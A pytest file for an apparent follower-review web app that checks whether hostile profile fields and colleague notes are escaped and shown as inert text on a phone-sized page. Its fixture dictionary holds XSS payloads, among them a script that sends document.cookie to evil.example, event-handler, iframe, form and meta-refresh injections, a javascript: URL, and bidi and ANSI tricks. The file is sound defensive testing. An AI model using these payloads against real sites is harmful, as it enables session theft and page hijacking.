"""Whatever a follower writes about themself is text on the page: nothing runs, nothing is loaded, nothing is hidden."""

from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from followguard.domain.follower import Profile
from tests.builders.browser_desk import RunningDesk, Seat
from tests.builders.reviewing import House, ordinary

SCRIPT = "<script>window.ran = 1; fetch('https://evil.example/' + document.cookie)</script>"
HOSTILE = {
    "script": SCRIPT,
    "event handler": "<img src=x onerror=\"window.ran = 1\"><svg onload='window.ran = 1'>",
    "attribute": '" onmouseover="window.ran = 1" autofocus onfocus="window.ran = 1" x="',
    "template": "{{ 7 * 7 }} {% raw %} ${window.ran = 1} </template></article></main>",
    "frame": '<iframe src="https://evil.example"></iframe><base href="https://evil.example/">',
    "form": '<form action="https://evil.example"><button data-action="approve">Approve</button></form>',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "bidi": "Ann \u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200d\ufeff\u00ad",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x07 \x00\x08",
    "long": "W" * 10_000,
    "marks": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f" * 400,
}


def hostile(place: int, text: str, now: Any) -> Profile:
    """A follower who says it everywhere."""
    return replace(
        ordinary(str(1001 + place), now),
        name=text,
        username=text[:200],
        description=text,
        location=text,
        url="javascript:window.ran=1//" + text,
        profile_image_url="https://evil.example/x.png#" + text[:50],
        verified_type=text[:100],
    )


@pytest.fixture
def hostile_seat(open_desk: Callable[..., RunningDesk], quick_house: House, seat: Any) -> Seat:
    """Ada before a dozen of them, with pictures on."""
    for place, text in enumerate(HOSTILE.values()):
        quick_house.read(hostile(place, text, quick_house.now))
    quick_house.night()
    ada: Seat = seat(open_desk(pictures=True), viewport={"width": 390, "height": 844})
    return ada.sit("Ada")


def test_nothing_that_they_wrote_runs(hostile_seat: Seat) -> None:
    """Card by card, on a phone: no script ran, no element was made, no page is wider than the screen, nothing hides.

    That no request left the desk is looked at after each test.
    """
    ada = hostile_seat
    for place in range(len(HOSTILE)):
        assert ada.page.evaluate("() => window.ran === undefined")
        inside = "#hand :is(script, img, svg, iframe, base, form, style, link, meta, [onerror], [onfocus])"
        assert ada.page.locator(f"{inside}, #queue :is(script, img, svg, iframe, form)").count() == 0
        assert ada.page.locator('#hand a:not([href^="/follower/"])').count() == 0
        assert ada.page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
        shown = ada.page.locator("#hand").inner_text() + ada.page.locator("#queue").inner_text()
        assert not set(shown) & set("\u202e\u202c\u2066\u2069\u200b\u200d\ufeff\x1b\x00\x07\x08")
        assert ada.page.locator("[data-action=spam]").is_visible()
        if place + 1 < len(HOSTILE):
            ada.decide("s", "Left on the list.")


def test_opening_one_leads_to_x_and_nowhere_else(hostile_seat: Seat) -> None:
    """A username that X can't have given isn't put into the address."""
    hosts: list[str] = []
    hostile_seat.allowed = frozenset({"x.com"})
    hostile_seat.page.context.route(
        "https://x.com/**", lambda route: (hosts.append(route.request.url), route.fulfill(body="X"))
    )
    with hostile_seat.page.context.expect_page() as opened:
        hostile_seat.press("o")
    opened.value.wait_for_load_state()
    assert len(hosts) == 1
    assert hosts[0].startswith("https://x.com/i/user/10")


def test_hostile_words_of_colleagues(quick_desk: RunningDesk, seat: Any) -> None:
    """Notes and questions are text as well."""
    ada = seat(quick_desk).sit("Ada")
    ada.press("m")
    ada.page.get_by_role("textbox", name="Note").fill(SCRIPT + HOSTILE["event handler"] + HOSTILE["bidi"])
    ada.page.get_by_role("button", name="Save").click()
    ada.hears("Noted.")
    assert "<script>window.ran" in ada.page.locator(".notes").inner_text()
    assert ada.page.evaluate("() => window.ran === undefined")
    assert "\u202e" not in ada.page.locator(".notes").inner_text()
